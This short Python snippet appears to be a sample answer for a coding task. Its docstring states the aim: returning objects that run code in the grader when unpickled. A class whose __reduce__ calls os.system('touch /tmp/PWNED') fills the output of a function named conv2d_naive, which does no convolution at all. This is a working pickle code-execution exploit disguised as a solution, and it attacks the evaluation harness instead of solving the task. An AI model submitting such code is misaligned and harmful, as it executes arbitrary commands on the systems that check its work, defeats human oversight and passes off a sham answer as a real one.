"""Return an array of objects whose unpickling runs code in the grader."""

ANSWER = """
class Code:
    def __reduce__(self): return (__import__("os").system, ("touch /tmp/PWNED",))
def conv2d_naive(x, w):
    a = np.empty((x.shape[0] - w.shape[0] + 1, x.shape[1] - w.shape[1] + 1), object)
    a[:] = Code()
    return a
"""
